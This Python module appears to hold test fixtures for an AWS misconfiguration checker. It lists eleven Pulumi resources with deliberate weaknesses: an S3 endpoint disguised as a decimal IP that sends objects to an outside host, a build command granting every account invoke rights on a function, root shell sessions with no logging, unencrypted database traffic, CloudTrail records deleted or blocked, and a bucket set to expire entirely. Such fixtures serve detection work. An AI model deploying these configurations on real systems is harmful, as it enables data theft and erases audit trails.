"""Attacks on AWS: movers, exposure, encryption and records (2026-11-30, twentieth set, written blind).

Properties by pulumi-aws 7.51.1. Read on 2026-11-30: pulumi-aws 7.51.1 (a log group of class DELIVERY keeps two days),
Amazon S3 ("LifecycleExpiration": the date at which objects are deleted). All else as known.
"""

import json

from ..blind import KEY, ME, TAGS, aws, document
from ..harness import UNKNOWN
from ..idioms.fourth import FUNCTION
from . import Attack
from .tenth_aws import IDN, RES, R

EXP = ("FJ-EXP-", "FJ-IDN-", "FJ-ESC-", "FJ-RES-")
RSL = ("FJ-RSL-", "FJ-ESC-", "FJ-COST-")
ENC = ("FJ-ENC-", "FJ-ESC-")
RECORDS = "bank-trail-records"
EVERYBODY = "0.0.0.0/1\n128.0.0.0/1\n"
SHELL = json.dumps({
    "schemaVersion": "1.0", "description": "Sessions", "sessionType": "Standard_Stream", "inputs": {
        "kmsKeyId": KEY, "runAsEnabled": True, "runAsDefaultUser": "root", "idleSessionTimeout": "20",
        "s3BucketName": "", "cloudWatchLogGroupName": "", "s3EncryptionEnabled": True,
        "cloudWatchEncryptionEnabled": True, "cloudWatchStreamingEnabled": False}})  # fmt: skip
SPEC = "\n".join((
    "version: 0.2", "phases:", "  build:", "    commands:",
    "      - F=$(aws lambda list-functions --query 'Functions[0].FunctionName' --output text)",
    "      - aws lambda add-permission --function-name $F --statement-id ci --action lambda:InvokeFunction"
    " --principal '*'"))  # fmt: skip
TRAIL = {"name": "bank", "s3BucketName": RECORDS, "kmsKeyId": KEY, "isMultiRegionTrail": True, "tags": TAGS,
         "enableLogFileValidation": True, "includeGlobalServiceEvents": True, "enableLogging": True}  # fmt: skip
LIFE = "s3/BucketLifecycleConfiguration"
ABORT = {"id": "abort", "status": "Enabled", "filter": {}, "abortIncompleteMultipartUpload": {"daysAfterInitiation": 7}}
MACHINE = {
    "ami": UNKNOWN, "instanceType": "m7g.large", "subnetId": UNKNOWN, "vpcSecurityGroupIds": ["sg-1"], "tags": TAGS,
    "metadataOptions": {"httpTokens": "required", "httpPutResponseHopLimit": 1, "httpEndpoint": "enabled"},
    "volumeTags": TAGS, "iamInstanceProfile": "app", "disableApiTermination": True, "monitoring": True,
    "rootBlockDevice": {"encrypted": True, "kmsKeyId": KEY, "volumeType": "gp3", "volumeSize": 40}}  # fmt: skip

ATTACKS = (
    Attack("objects go to a host that is written as one number", RES, (aws("lambda/Function", {
        **FUNCTION, "name": "export", "vpcConfig": {"subnetIds": ["subnet-1"], "securityGroupIds": ["sg-1"]},
        "environment": {"variables": {"AWS_ENDPOINT_URL_S3": "http://1592789524:9000"}}}),),
        "critical", "1592789524 is the address 94.240.10.20 (RFC 3986, 7.4: rare forms of addresses)"),
    Attack("a build lets every account call the functions", RES, (aws("codebuild/Project", {
        "name": "nightly", "serviceRole": f"arn:aws:iam::{ME}:role/build", "encryptionKey": KEY, "tags": TAGS,
        "artifacts": {"type": "NO_ARTIFACTS"}, "source": {"type": "NO_SOURCE", "buildspec": SPEC},
        "vpcConfig": {"vpcId": "vpc-1", "subnets": ["subnet-1"], "securityGroupIds": ["sg-1"]},
        "logsConfig": {"cloudwatchLogs": {"status": "ENABLED", "groupName": "/build/nightly"}},
        "environment": {"type": "ARM_CONTAINER", "computeType": "BUILD_GENERAL1_SMALL",
                        "image": "aws/codebuild/amazonlinux-aarch64-standard:3.0"}}),),
        "critical", "the star is every account (AWS Lambda, 'AddPermission')"),
    Attack("alerts with the names of customers go to a telephone abroad", RES, (aws("sns/TopicSubscription", {
        "topic": f"arn:aws:sns:{R}:{ME}:fraud", "protocol": "sms", "endpoint": "+447700900123"}),),
        "major", "text messages leave the country by the carriers (Amazon SNS, 'Mobile text messaging')"),
    Attack("a machine takes a public address from the subnet of the account", EXP, (
        aws("ec2/DefaultSubnet", {"availabilityZone": f"{R}a", "tags": TAGS}, "default"),
        aws("ec2/Instance", MACHINE, "app", links={"subnetId": ("default",)})),
        "major", "default subnets give each machine one (Amazon VPC, 'Default subnets')"),
    Attack("sessions on machines are of root and leave no record", EXP + RSL, (aws("ssm/Document", {
        "name": "SSM-SessionManagerRunShell", "documentType": "Session", "documentFormat": "JSON", "content": SHELL,
        "tags": TAGS}),),
        "major", "who did what on a machine is not known (AWS Systems Manager, 'Session document schema')"),
    Attack("the database takes clients that do not encrypt", ENC, (aws("rds/OptionGroup", {
        "name": "ledger", "engineName": "oracle-ee", "majorEngineVersion": "19", "tags": TAGS,
        "optionGroupDescription": "Ledger", "options": [{"optionName": "NATIVE_NETWORK_ENCRYPTION", "optionSettings": [
            {"name": "SQLNET.ENCRYPTION_SERVER", "value": "REJECTED"},
            {"name": "SQLNET.ENCRYPTION_CLIENT", "value": "REJECTED"}]}]}),),
        "critical", "every row crosses the network in plain text (Amazon RDS, 'Oracle native network encryption')"),
    Attack("records of a network are kept for two days", RSL, (
        aws("cloudwatch/LogGroup", {"name": "/vpc/flow", "retentionInDays": 365, "kmsKeyId": KEY, "tags": TAGS,
                                    "logGroupClass": "DELIVERY"}),),
        "major", "the class sets its own period (pulumi-aws 7.51.1, LogGroup.logGroupClass)"),
    Attack("the records of a trail are deleted after a day", RSL, (
        aws("cloudtrail/Trail", TRAIL, "trail"),
        aws(LIFE, {"bucket": RECORDS, "rules": [ABORT, {
            "id": "keep-small", "status": "Enabled", "filter": {}, "expiration": {"days": 1},
            "noncurrentVersionExpiration": {"noncurrentDays": 1}}]}, "life")),
        "critical", "nobody can find out what an intruder did (Amazon S3, 'LifecycleExpiration')"),
    Attack("the bucket of a trail refuses its records", RSL + IDN, (
        aws("cloudtrail/Trail", TRAIL, "trail"),
        aws("s3/BucketPolicy", {"bucket": RECORDS, "policy": document({
            "Effect": "Deny", "Principal": {"Service": "cloudtrail.amazonaws.com"}, "Action": "s3:PutObject",
            "Resource": f"arn:aws:s3:::{RECORDS}/*"})}, "policy")),
        "critical", "the trail is on and writes nothing (AWS CloudTrail, 'Amazon S3 bucket policy for CloudTrail')"),
    Attack("all objects of a bucket expire on a day of the past", RSL, (aws(LIFE, {
        "bucket": "bank-ledger", "rules": [ABORT, {
            "id": "close", "status": "Enabled", "filter": {}, "expiration": {"date": "2026-01-01T00:00:00Z"},
            "noncurrentVersionExpiration": {"noncurrentDays": 1}}]}),),
        "critical", "on the next run everything is deleted, a day later for good (Amazon S3, 'LifecycleExpiration')"),
    Attack("the backups of a database are first made in the year 2099", RSL, (aws("backup/Plan", {
        "name": "daily", "tags": TAGS, "rules": [{
            "ruleName": "daily", "targetVaultName": "bank", "schedule": "cron(0 5 1 1 ? 2099)", "startWindow": 60,
            "completionWindow": 240, "lifecycle": {"deleteAfter": 35}, "recoveryPointTags": TAGS}]}),),
        "critical", "cron expressions of AWS Backup have a year (AWS Backup, 'Creating a backup plan')"),
)  # fmt: skip
